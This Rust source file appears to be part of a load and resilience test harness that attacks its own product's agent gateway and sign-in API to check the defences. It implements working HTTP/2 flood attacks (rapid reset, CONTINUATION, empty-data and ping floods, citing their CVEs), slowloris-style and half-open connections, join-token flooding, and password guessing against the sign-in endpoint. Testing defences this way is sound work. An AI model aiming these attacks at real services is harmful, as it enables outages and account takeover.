//! The ways in which strangers, and a host that was broken into, take what others need.

use std::collections::BTreeMap;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::time::Duration;

use clap::ValueEnum;
use prost::Message as _;
use rustls::ClientConfig;
use serde::Serialize;
use tidemark_agent::enroll::enroll_request;
use tidemark_agent::identity::Vault;
use tidemark_model::JoinToken;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};

use super::wire::{END_HEADERS, END_STREAM, Wire, call_head, connect, frame, kind, message};
use crate::harness::peer::{Peer, facts, sample};

/// Where attackers come from, as the agents' gateway sees them.
pub const FROM: Ipv4Addr = Ipv4Addr::new(10, 98, 0, 200);
/// The same as those who ask the API see them.
const FROM_HERE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 200);
/// The gRPC method of strangers.
const ENROL: &str = "/tidemark.v1.Enrollment/Enroll";
/// Connections of an attack that floods.
const FLOODERS: u32 = 8;
/// Frames that are sent together.
const TOGETHER: u32 = 64;
/// What a rate is of.
const SECOND: Duration = Duration::from_secs(1);
/// How soon somebody tries again who was turned away, at the soonest.
const AGAIN: Duration = Duration::from_millis(50);

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, ValueEnum)]
#[serde(rename_all = "snake_case")]
pub enum Attack {
    /// Strangers begin handshakes and never go on.
    Handshakes,
    /// Strangers open HTTP/2 and then say nothing.
    Strangers,
    /// Strangers ask to be enrolled, a byte a second.
    SlowBodies,
    /// Strangers begin requests and take them back (CVE-2023-44487).
    RapidResets,
    /// Strangers send heads that never end (CVE-2024-27316).
    Continuations,
    /// Strangers send bodies of nothing (CVE-2019-9518).
    EmptyData,
    /// Strangers send pings and settings that want answers (CVE-2019-9512, CVE-2019-9515).
    Pings,
    /// Strangers try join tokens.
    Tokens,
    /// A host opens connections and keeps them.
    HostConnections,
    /// A host sends pings and settings.
    HostPings,
    /// A host sends records as fast as it can.
    HostRecords,
    /// Somebody opens connections to the API and says nothing.
    ApiConnections,
    /// Somebody tries passwords.
    SignIns,
}

/// What attackers attack, and with what.
pub struct Target {
    /// Where agents come in.
    pub gateway: SocketAddr,
    /// Where people come in.
    pub api: SocketAddr,
    /// Of somebody without a certificate.
    pub stranger: Arc<ClientConfig>,
    /// Of the host that was broken into.
    pub host: Arc<ClientConfig>,
    /// The same host.
    pub peer: Peer,
    /// A token that nobody made, for the right CA.
    pub token: JoinToken,
    /// Connections to hold.
    pub connections: u32,
    /// Requests, frames or connections a second at most.
    pub rate: u32,
}

/// What the attackers got done.
#[derive(Debug, Default)]
pub struct Tally {
    opened: AtomicU64,
    sent: AtomicU64,
    open: AtomicU32,
}

impl Tally {
    /// By kind of deed.
    #[must_use]
    pub fn figures(&self) -> BTreeMap<&'static str, u64> {
        BTreeMap::from([
            ("opened", self.opened.load(Ordering::Relaxed)),
            ("open", u64::from(self.open.load(Ordering::Relaxed))),
            ("sent", self.sent.load(Ordering::Relaxed)),
        ])
    }

    fn opened(self: &Arc<Self>) -> Held {
        self.opened.fetch_add(1, Ordering::Relaxed);
        self.open.fetch_add(1, Ordering::Relaxed);
        Held(Arc::clone(self))
    }

    fn sent(&self, count: u32) {
        self.sent.fetch_add(u64::from(count), Ordering::Relaxed);
    }
}

/// A connection that is open.
struct Held(Arc<Tally>);

impl Drop for Held {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

/// Attacks for as long as it is polled.
pub async fn attack(kind: Attack, target: Arc<Target>, tally: Arc<Tally>) {
    let connections = target.connections;
    match kind {
        Attack::Handshakes => hold(connections, target, tally, half_open).await,
        Attack::Strangers => hold(connections, target, tally, idle_stranger).await,
        Attack::SlowBodies => hold(connections, target, tally, slow_body).await,
        Attack::HostConnections => hold(connections, target, tally, idle_host).await,
        Attack::ApiConnections => hold(connections, target, tally, idle_at_api).await,
        Attack::RapidResets => hold(FLOODERS, target, tally, rapid_resets).await,
        Attack::Continuations => hold(FLOODERS, target, tally, continuations).await,
        Attack::EmptyData => hold(FLOODERS, target, tally, empty_data).await,
        Attack::Pings => hold(FLOODERS, target, tally, strangers_pings).await,
        Attack::HostPings => hold(FLOODERS, target, tally, hosts_pings).await,
        Attack::Tokens => hold(FLOODERS, target, tally, tokens).await,
        Attack::HostRecords => hold(1, target, tally, records).await,
        Attack::SignIns => hold(FLOODERS, target, tally, sign_ins).await,
    }
}

/// Keeps so many at it; whoever is thrown out comes again.
async fn hold<F>(
    count: u32,
    target: Arc<Target>,
    tally: Arc<Tally>,
    one: fn(Arc<Target>, Arc<Tally>) -> F,
) where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let again = AGAIN.max(SECOND * count / target.rate.max(1));
    let mut holders = JoinSet::new();
    for _ in 0..count {
        let (target, tally) = (Arc::clone(&target), Arc::clone(&tally));
        holders.spawn(async move {
            loop {
                // Being thrown out is what a defence is for.
                one(Arc::clone(&target), Arc::clone(&tally)).await.ok();
                tokio::time::sleep(again).await;
            }
        });
        // A few thousand a second: the kernel queues some hundred.
        if count > FLOODERS {
            tokio::time::sleep(Duration::from_micros(500)).await;
        }
    }
    while holders.join_next().await.is_some() {}
}

async fn half_open(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    // The head of a ClientHello that is never finished.
    let beginning = [22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3];
    let mut tcp = connect(FROM, target.gateway).await?;
    let _held = tally.opened();
    for byte in beginning.into_iter().chain(std::iter::repeat(7)) {
        tcp.write_all(&[byte]).await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

async fn idle(target: &Target, config: &Arc<ClientConfig>, tally: &Arc<Tally>) -> io::Result<()> {
    let mut wire = Wire::open(FROM, target.gateway, Arc::clone(config)).await?;
    let _held = tally.opened();
    Wire::hear_out(&mut wire.reader).await;
    Ok(())
}

async fn idle_stranger(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    idle(&target, &target.stranger, &tally).await
}

async fn idle_host(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    idle(&target, &target.host, &tally).await
}

async fn slow_body(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let mut wire = Wire::open(FROM, target.gateway, Arc::clone(&target.stranger)).await?;
    let _held = tally.opened();
    let head = frame(kind::HEADERS, END_HEADERS, 1, &call_head(ENROL));
    let drip = async {
        wire.writer.write_all(&head).await?;
        loop {
            wire.writer
                .write_all(&frame(kind::DATA, 0, 1, &[0]))
                .await?;
            wire.writer.flush().await?;
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    };
    tokio::select! {
        ended = drip => ended,
        () = Wire::hear_out(&mut wire.reader) => Ok(()),
    }
}

/// Sends what `next` makes, numbered, at this attacker's share of the rate, until it is thrown out.
async fn flood(
    target: &Target,
    config: &Arc<ClientConfig>,
    tally: &Arc<Tally>,
    mut next: impl FnMut(u32) -> Vec<u8>,
) -> io::Result<()> {
    let mut wire = Wire::open(FROM, target.gateway, Arc::clone(config)).await?;
    let _held = tally.opened();
    let flooding = async {
        let mut number = 0;
        let mut ticks = interval(SECOND * TOGETHER * FLOODERS / target.rate.max(1));
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        loop {
            ticks.tick().await;
            let mut together = Vec::new();
            for _ in 0..TOGETHER {
                together.extend(next(number));
                number += 1;
            }
            wire.writer.write_all(&together).await?;
            wire.writer.flush().await?;
            tally.sent(TOGETHER);
        }
    };
    tokio::select! {
        ended = flooding => ended,
        () = Wire::hear_out(&mut wire.reader) => Ok(()),
    }
}

/// The `number`th stream that a client begins.
const fn stream(number: u32) -> u32 {
    number * 2 + 1
}

async fn rapid_resets(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let head = call_head(ENROL);
    flood(&target, &target.stranger, &tally, |number| {
        let mut both = frame(kind::HEADERS, END_HEADERS, stream(number), &head);
        both.extend(frame(kind::RST_STREAM, 0, stream(number), &[0, 0, 0, 8]));
        both
    })
    .await
}

async fn continuations(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let head = call_head(ENROL);
    flood(&target, &target.stranger, &tally, |number| match number {
        0 => frame(kind::HEADERS, 0, 1, &head),
        // A name and a value of a few bytes, literal.
        _ => frame(kind::CONTINUATION, 0, 1, b"\x00\x03x-a\x03abc"),
    })
    .await
}

async fn empty_data(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let head = call_head(ENROL);
    flood(&target, &target.stranger, &tally, |number| match number {
        0 => frame(kind::HEADERS, END_HEADERS, 1, &head),
        _ => frame(kind::DATA, 0, 1, &[]),
    })
    .await
}

fn ping_or_settings(number: u32) -> Vec<u8> {
    if number.is_multiple_of(2) {
        frame(kind::PING, 0, 0, &[7; 8])
    } else {
        frame(kind::SETTINGS, 0, 0, &[])
    }
}

async fn strangers_pings(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    flood(&target, &target.stranger, &tally, ping_or_settings).await
}

async fn hosts_pings(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    flood(&target, &target.host, &tally, ping_or_settings).await
}

async fn tokens(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let vault = Vault::in_memory(target.token.ca_pin).map_err(io::Error::other)?;
    let request = enroll_request(&vault, &target.token, &facts("stranger"));
    let request = message(&request.map_err(io::Error::other)?.encode_to_vec());
    let head = call_head(ENROL);
    flood(&target, &target.stranger, &tally, |number| {
        let mut call = frame(kind::HEADERS, END_HEADERS, stream(number), &head);
        call.extend(frame(kind::DATA, END_STREAM, stream(number), &request));
        call
    })
    .await
}

async fn records(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let epoch = u64::from(std::process::id());
    let flooding = target.peer.deliver(epoch, async |mut session| {
        let samples = vec![sample(tidemark_runtime::Clock::System.now(), 700); 256];
        let _held = tally.opened();
        let mut seq = 1;
        loop {
            session.samples(seq, &samples).await?;
            seq += 256;
            tally.sent(256);
        }
    });
    flooding.await.map_err(io::Error::other)
}

async fn idle_at_api(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    use tokio::io::AsyncReadExt as _;
    let mut tcp = connect(FROM_HERE, target.api).await?;
    let _held = tally.opened();
    let mut nothing = [0; 1];
    tcp.read(&mut nothing).await.map(drop)
}

async fn sign_ins(target: Arc<Target>, tally: Arc<Tally>) -> io::Result<()> {
    let client = reqwest::Client::builder().local_address(std::net::IpAddr::from(FROM_HERE));
    let client = client.build().map_err(io::Error::other)?;
    let url = format!("http://{}/api/v1/sign-in", target.api);
    let mut ticks = interval(SECOND * FLOODERS / target.rate.max(1));
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        ticks.tick().await;
        let body = serde_json::json!({"name": "admin", "password": "guess"});
        let asked = client.post(&url).json(&body).send().await;
        asked.map_err(io::Error::other)?;
        tally.sent(1);
    }
}
